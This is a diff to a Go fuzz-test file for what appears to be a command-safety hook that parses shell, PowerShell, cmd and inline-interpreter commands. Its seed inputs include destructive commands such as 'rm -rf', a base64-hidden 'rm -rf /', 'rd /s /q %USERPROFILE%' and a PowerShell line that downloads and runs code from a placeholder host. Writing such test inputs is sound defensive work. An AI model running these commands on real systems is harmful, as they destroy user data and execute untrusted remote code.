@@ -31,21 +31,22 @@ func same(t *testing.T, read func() []hook.Fact) {
 var fuzzed = World{Dir: "/home/u/project", Home: "/home/u", Env: map[string]string{"HOME": "/home/u", "PATH": "/usr/bin:/bin"}}
 
 func FuzzShell(f *testing.F) {
-	for _, line := range []string{"rm -rf \"$X\"/*", "eval \"$(echo cm0gLXJmIC8= | base64 -d)\"", "for i in {1..3}; do cat <(curl x) > $i; done", "x=${y:-$(z)} a\\\nb 'c' \"d$e\" <<<f", "cat <<E | sh\n$x\nE", "[[ $a =~ b ]] && ((i++)) || coproc c { d; }"} {
+	for _, line := range []string{"rm -rf \"$X\"/*", "eval \"$(echo cm0gLXJmIC8= | base64 -d)\"", "for i in {1..3}; do cat <(curl x) > $i; done", "x=${y:-$(z)} a\\\nb 'c' \"d$e\" <<<f", "cat <<E | sh\n$x\nE", "[[ $a =~ b ]] && ((i++)) || coproc c { d; }",
+		"cat > a.rs <<X\nfn f<'a>(x: &'a str) { Command::new(\"rm\").args([\"-rf\", x]).spawn(); }\nX\nrustc a.rs && ./a", "cat > a.go <<X\nvar c = exec.Command(\"sh\", []string{\"-c\", `x`}...)\nX\ngo run a.go", "javac A.java; java A", "x --y-command 'rm -rf z' sh -c 'w'", "chmod u=,go-r x; ghci <<< ':!ls'"} {
 		f.Add(line)
 	}
 	f.Fuzz(func(t *testing.T, line string) { same(t, func() []hook.Fact { return Shell(line, fuzzed) }) })
 }
 
 func FuzzPowerShell(f *testing.F) {
-	for _, line := range []string{"Get-ChildItem . -Recurse | Remove-Item -Force", "$p = \"C:\\\"; rm $p -r -fo", "iex (iwr https://x.example/i)", "[IO.File]::Delete('x')", "@'\nx\n'@ | % { $_ }"} {
+	for _, line := range []string{"Get-ChildItem . -Recurse | Remove-Item -Force", "$p = \"C:\\\"; rm $p -r -fo", "iex (iwr https://x.example/i)", "[IO.File]::Delete('x')", "@'\nx\n'@ | % { $_ }", "$p = @{Path='x'; Force=$true}; ri @p @q"} {
 		f.Add(line)
 	}
 	f.Fuzz(func(t *testing.T, line string) { same(t, func() []hook.Fact { return PowerShell(line, fuzzed) }) })
 }
 
 func FuzzCmd(f *testing.F) {
-	for _, line := range []string{`rd /s /q "%USERPROFILE%"`, `for %i in (a b) do del %i`, `echo x > y & type z | more`, `po^wershell -c "x"`} {
+	for _, line := range []string{`rd /s /q "%USERPROFILE%"`, `for %i in (a b) do del %i`, `for /f "delims=" %i in ('dir /b') do (for /r x %j in (*) do rd %i%j)`, `echo x > y & type z | more`, `po^wershell -c "x"`} {
 		f.Add(line)
 	}
 	f.Fuzz(func(t *testing.T, line string) { same(t, func() []hook.Fact { return Cmd(line, fuzzed) }) })
@@ -53,7 +54,7 @@ func FuzzCmd(f *testing.F) {
 
 func FuzzCode(f *testing.F) {
 	for _, line := range []string{"import os; os.remove(f'{x}/y')", "require('fs').rmSync(`${a}`)", "system(\"rm $x\")", "File.delete(*Dir['x'])", "%x(ls)", "$x->unlink"} {
-		for _, language := range []string{"python3 -c", "node -e", "perl -e", "ruby -e", "php -r", "awk"} {
+		for _, language := range []string{"python3 -c", "node -e", "perl -e", "ruby -e", "php -r", "awk", "ghc -e", "ocaml -e", "jshell <<<"} {
 			f.Add(language, line)
 		}
 	}
